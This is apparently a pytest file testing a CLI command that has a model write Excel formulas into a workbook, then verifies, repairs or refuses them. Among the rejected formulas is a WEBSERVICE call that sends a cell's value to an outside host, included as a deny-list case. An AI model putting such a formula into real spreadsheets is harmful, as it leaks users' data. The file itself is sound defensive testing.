"""A formula by a model: repaired, refused or written, but never unverified."""

from __future__ import annotations

import json
from pathlib import Path

import openpyxl
import pytest

from tests.faults.server import Misbehaving, ok
from tests.program import Outcome, kumaai


@pytest.fixture
def book(tmp_path: Path) -> Path:
    """Prices and counts, and an empty column for their products."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = "注文"
    for row in (["品名", "単価", "数量", "金額"], ["机", 12000, 3], ["椅子", 4500, 10], ["棚", 8000, 2]):
        sheet.append(row)
    workbook.save(tmp_path / "注文.xlsx")
    return tmp_path


def ask(folder: Path, *answers: dict[str, object], options: tuple[str, ...] = ()) -> Outcome:
    """One run against a server that gives these answers in turn."""
    script = [
        ok(json.dumps({"explanation": "積", "assumptions": []} | answer, ensure_ascii=False))
        for answer in answers
    ]
    with Misbehaving(*script) as server:
        environ = {"KUMAAI_BASE_URL": server.base_url, "KUMAAI_MODEL": "m"}
        arguments = (
            "excel-formula",
            "注文.xlsx",
            "単価に数量を掛けた金額",
            "--cell",
            "D2:D4",
            "--json",
            *options,
        )
        return kumaai(folder, *arguments, environ=environ)


def test_a_right_formula_is_computed_and_written(book: Path) -> None:
    """The values of all rows are in the answer and in the workbook; the rest of it is as it was."""
    done = ask(book, {"formula": "=B2*C2"}, options=("-o", "out.xlsx"))
    assert done.status == 0, done.stderr
    answer = done.envelope["answer"]
    assert (answer["formula"], answer["verdict"]) == ("=B2*C2", "verified")
    assert [value["value"] for value in answer["values"]] == [36000, 45000, 16000]
    written = openpyxl.load_workbook(book / "out.xlsx")
    assert written["注文"]["D4"].value == "=B4*C4"
    assert written["注文"]["A2"].value == "机"
    assert "生成AI利用記録" in written.sheetnames


@pytest.mark.parametrize(
    "wrong",
    [
        "=B2*",
        "=NOSUCH(B2)",
        "=B2*Z9999999",
        '=WEBSERVICE("http://example.com/"&B2)',
        "=D2+1",
        "=無い表[単価]",
    ],
)
def test_a_formula_that_fails_is_repaired(book: Path, wrong: str) -> None:
    """Syntax, unknown functions, dangling references, cycles and the deny list go back to the model with the reason."""
    done = ask(book, {"formula": wrong}, {"formula": "=B2*C2"})
    assert done.status == 0, done.stderr
    assert done.envelope["usage"]["calls"] == 2


def test_an_example_that_is_not_met_is_refused(book: Path) -> None:
    """A formula that computes something else than --expect says is status 8 after two repairs."""
    done = ask(book, *[{"formula": "=B2+C2"}] * 3, options=("--expect", "D2=36000", "-o", "out.xlsx"))
    assert done.status == 8
    assert not (book / "out.xlsx").exists()


def test_no_formula_is_an_answer(book: Path) -> None:
    """A model that says the columns do not suffice is believed at once."""
    done = ask(book, {"formula": "", "explanation": "税率の列がありません。"})
    assert (done.status, done.envelope["error"]["code"]) == (8, "answer.no_formula")
    assert "税率の列がありません" in done.envelope["error"]["message"]
    assert done.envelope["usage"]["calls"] == 1
